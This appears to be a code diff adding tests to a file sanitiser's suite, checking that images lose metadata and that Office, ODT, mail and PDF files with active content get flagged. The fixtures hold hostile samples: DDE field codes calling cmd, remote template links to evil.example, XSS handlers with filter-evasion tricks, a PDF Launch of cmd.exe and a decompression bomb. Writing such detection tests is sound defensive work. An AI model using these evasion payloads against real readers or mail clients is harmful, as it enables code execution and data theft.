@@ -85,6 +85,8 @@ describe('a picture is kept without what is told of it', () => {
       [0xfe, secret],
       [0xe5, secret],
       [0xe2, `MPF\0${secret}`],
+      [0xf0, secret],
+      [0xdf, secret],
     ] as const;
     const before = jpeg({ exif: exif({ text: secret }), extra: told, behind: secret });
     const after = await kept(before, 'jpeg');
@@ -141,6 +143,20 @@ describe('a picture is kept without what is told of it', () => {
     expect(after.indexOf('PICTURE-DATA')).toBe(before.toString('latin1').indexOf('PICTURE-DATA'));
   });
 
+  it('HEIC: what belongs to no picture is zero, and the picture is where it was', async () => {
+    const after = await kept(heic({ unnamed: secret }), 'heic');
+    expect([after.includes(secret), after.includes('PICTURE-DATA')]).toEqual([false, true]);
+  });
+
+  it.each(['moov', 'mpvd', 'sefd', 'abcd'])('HEIC: one with a box of another sort is not kept: %s', async (type) => {
+    expect(await outcome(heic({ extra: [looseBox(type, Buffer.from(secret))] }), 'heic')).toBe('metadata-not-removable');
+  });
+
+  it.each(['udes', 'uuid', 'crtt', 'itai'])('HEIC: one with a property that tells something is not kept: %s', async (type) => {
+    expect(await outcome(heic({ property: looseBox(type, Buffer.from(secret)) }), 'heic')).toBe('metadata-not-removable');
+    expect(await outcome(heic({ property: looseBox('irot', Buffer.from([1])) }), 'heic')).toBe('kept');
+  });
+
   it('HEIC: one whose parts lie where we do not follow is not kept', async () => {
     for (const strange of [heic({ told: [['Exif', secret]], method: 2 }), heic({ told: [['what', secret]] }), heic({ extra: [looseBox('moov')] })])
       expect(await outcome(strange, 'heic')).toBe('metadata-not-removable');
@@ -157,6 +173,12 @@ describe('a picture is kept without what is told of it', () => {
 const rels = (type: string): string =>
   `<Relationships><Relationship Id="r" Type="http://x/relationships/${type}" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>`;
 
+/** A prefix, an entity in a name's value, and a comment with an end of a tag in it. */
+const spelledRels = `<p:Relationships xmlns:p="x"><!-- > --><p:Relationship Id='r' Type='http://x/relationships/attached&#84;emplate' Target='https://evil.example/t.dotm' TargetMode='Extern&#97;l'/></p:Relationships>`;
+
+/** A text with another part of this type. */
+const contentType = (type: string): Buffer => office('docx', [], `<Override PartName="/x.bin" ContentType="${type}"/>`);
+
 describe('a document of Office', () => {
   it.each([
     ['a macro', office('docx', [{ name: 'word/vbaProject.bin', text: 'x' }]), 'active-content'],
@@ -166,9 +188,39 @@ describe('a document of Office', () => {
     ['a link', office('docx', [{ name: 'word/_rels/document.xml.rels', text: rels('hyperlink') }]), 'kept'],
     [
       'a field that asks a program, in pieces',
-      office('docx', [{ name: 'word/footer.xml', text: '<w:instrText> DD</w:instrText></w:r><w:r><w:instrText xml:space="preserve">EAUTO cmd</w:instrText>' }]),
+      office('docx', [
+        {
+          name: 'word/footer.xml',
+          text: '<w:p><w:r><w:instrText> DD</w:instrText></w:r><w:r><w:instrText xml:space="preserve">EAUTO cmd</w:instrText></w:r></w:p>',
+        },
+      ]),
       'active-content',
     ],
+    [
+      'a field whose words are written by number',
+      office('docx', [{ name: 'word/footer.xml', text: '<w:instrText>D&#68;E cmd</w:instrText>' }]),
+      'active-content',
+    ],
+    ['a field of another prefix', office('docx', [{ name: 'word/footer.xml', text: '<x:fldSimple x:instr="DDE cmd"/>' }]), 'active-content'],
+    ['a template whose relationship is spelled otherwise', office('docx', [{ name: 'word/_rels/settings.xml.rels', text: spelledRels }]), 'active-content'],
+    [
+      'a relationship of two types',
+      office('docx', [{ name: 'word/_rels/a.rels', text: `<r><Relationship Type="x/attachedTemplate" y:Type="x/image"/></r>` }]),
+      'active-content',
+    ],
+    ['a relationship that nobody knows', office('docx', [{ name: 'word/_rels/document.xml.rels', text: rels('newfangled') }]), 'active-content'],
+    ['a picture on the web', office('docx', [{ name: 'word/_rels/document.xml.rels', text: rels('image') }]), 'kept'],
+    [
+      'a picture on somebody’s server',
+      office('docx', [{ name: 'word/_rels/a.rels', text: rels('image').replace('https://evil', 'file://evil') }]),
+      'active-content',
+    ],
+    ['a page that is read in', office('docx', [{ name: 'word/x.xml', text: '<w:altChunk r:id="a"/>' }]), 'active-content'],
+    ['a part of a type that nobody knows', contentType('application/x-msdownload'), 'active-content'],
+    ['a part with macros that is called otherwise', contentType('application/vnd.ms-office.vbaProject'), 'active-content'],
+    ['XML in UTF-16', office('docx', [{ name: 'word/x.xml', text: Buffer.from('\ufeff<w:instrText>DDE cmd</w:instrText>', 'utf16le') }]), 'active-content'],
+    ['XML that is none', office('docx', [{ name: 'word/x.xml', text: '<w:p><w:r></w:p>' }]), 'unreadable'],
+    ['XML in letters that nobody need know', office('docx', [{ name: 'word/x.xml', text: '<?xml version="1.0" encoding="utf-7"?><w:p/>' }]), 'unreadable'],
     ['a field that asks a program', office('docx', [{ name: 'word/footer.xml', text: '<w:instrText> DDEAUTO cmd </w:instrText>' }]), 'active-content'],
     ['an entity', office('docx', [{ name: 'word/x.xml', text: '<!DOCTYPE x [<!ENTITY a "b">]>' }]), 'active-content'],
     ['an OLE container', office('docx', [{ name: 'word/embeddings/oleObject1.bin', text: Buffer.from('d0cf11e0a1b11ae1', 'hex') }]), 'embedded-file'],
@@ -199,6 +251,9 @@ describe('a document of Office', () => {
 
   it.each([
     ['Basic', odt([{ name: 'Basic/Standard/Module1.xml', text: '<script/>' }]), 'active-content'],
+    ['an empty part, as LibreOffice writes it', odt([{ name: 'Configurations2/accelerator/current.xml', text: '' }]), 'kept'],
+    ['a text from elsewhere', odt([{ name: 'x.xml', text: '<text:section-source xlink:href="file://evil/x"/>' }]), 'active-content'],
+    ['a link to a program’s values', odt([{ name: 'x.xml', text: '<office:dde-source office:dde-application="cmd"/>' }]), 'active-content'],
     ['a script', odt([{ name: 'Scripts/python/a.py', text: 'x' }]), 'active-content'],
     ['an event', odt([{ name: 'styles.xml', text: '<script:event-listener script:language="ooo:script"/>' }]), 'active-content'],
     ['a password', odt([{ name: 'META-INF/manifest.xml', text: '<manifest:encryption-data/>' }]), 'encrypted'],
@@ -213,6 +268,11 @@ describe('a mail', () => {
   it.each([
     ['HTML', mail({ html: '<p>Guten Tag, <b>Paula</b> <a href="https://example.org">hier</a></p>' }), 'kept'],
     ['a script', mail({ html: '<p>x</p><script>alert(1)</script>' }), 'active-content'],
+    ['a handler behind a quoted end of a tag', mail({ html: '<img title=">" onerror=alert(1)>' }), 'active-content'],
+    ['a handler behind a slash', mail({ html: '<svg/onload=alert(1)>' }), 'active-content'],
+    ['a handler in what looks like a comment', mail({ html: '<!--><img src=x onerror=alert(1)> -->' }), 'active-content'],
+    ['words that look like one', mail({ html: '<p>Er kam on time = gut; https://example.org/online=1</p>' }), 'kept'],
+    ['a picture with entities of its own', attached('image/svg+xml', Buffer.from('<!DOCTYPE svg [<!ENTITY a "b">]><svg/>')), 'active-content'],
     ['a handler', mail({ html: '<img src=x onerror=alert(1)>' }), 'active-content'],
     ['an address that is a program', mail({ html: '<a href="java&#115;cript:alert(1)">x</a>' }), 'active-content'],
     ['an attached page with a script', attached('text/html', Buffer.from('<html><script>1</script></html>')), 'active-content'],
@@ -277,13 +337,26 @@ describe('a PDF', () => {
       pdf([{ dictionary: '/Type /ObjStm /Filter [/FlateDecode /FlateDecode]', stream: '<< /S /JavaScript >>', times: 2 }]),
       'active-content',
     ],
+    [
+      'packed objects whose dictionary is cut by its own words',
+      pdf([{ dictionary: '/Type /ObjStm /First 4 /X ( obj) /Filter /LZWDecode', stream: 'x' }]),
+      'unreadable',
+    ],
+    ['objects packed so as a filter elsewhere says', pdf([{ dictionary: '/Type /ObjStm /N 1 /First 4 /Filter 9 0 R', stream: 'x' }]), 'unreadable'],
+    ['objects whose packing is said elsewhere', pdf([{ dictionary: '/N 1 /First 4 /Filter /FlateDecode /DecodeParms 9 0 R', stream: 'x' }]), 'unreadable'],
+    ['objects that say they are a picture', pdf([{ dictionary: '/Subtype /Image /Filter /FlateDecode', stream: '<< /S /JavaScript >>' }]), 'active-content'],
+    ['objects of no type', pdf([{ dictionary: '/Type 9 0 R /N 1 /First 4 /Filter /RunLengthDecode', stream: 'x' }]), 'unreadable'],
     ['objects packed in a way that nobody looks into', pdf([{ dictionary: '/Type /ObjStm /Filter /LZWDecode', stream: 'x' }]), 'unreadable'],
     ['a program to start', pdf(['<< /S /Launch /F (cmd.exe) >>']), 'active-content'],
     ['a form that sends itself', pdf(['<< /S /SubmitForm /F (https://evil.example) >>']), 'active-content'],
     ['a file', pdf(['<< /Type /EmbeddedFile >>']), 'embedded-file'],
     ['a password', pdf(['<< /Encrypt 5 0 R >>']), 'encrypted'],
     ['a bomb', pdf([{ dictionary: '/Filter /FlateDecode', stream: Buffer.alloc(70_000_000) }]), 'unpacks-too-large'],
-    ['a white page as a picture', pdf([{ dictionary: '/Subtype /Image /Filter /FlateDecode', stream: Buffer.alloc(70_000_000, 255) }]), 'kept'],
+    [
+      'a white page as a picture',
+      pdf([{ dictionary: '/Subtype /Image /Width 9000 /Height 7777 /Filter /FlateDecode', stream: Buffer.alloc(70_000_000, 255) }]),
+      'kept',
+    ],
     ['something before it', Buffer.concat([Buffer.from('<html>'), pdf()]), 'not-of-its-type'],
     ['no end', pdf().subarray(0, 60), 'unreadable'],
   ])('with %s', async (_, bytes, expected) => {
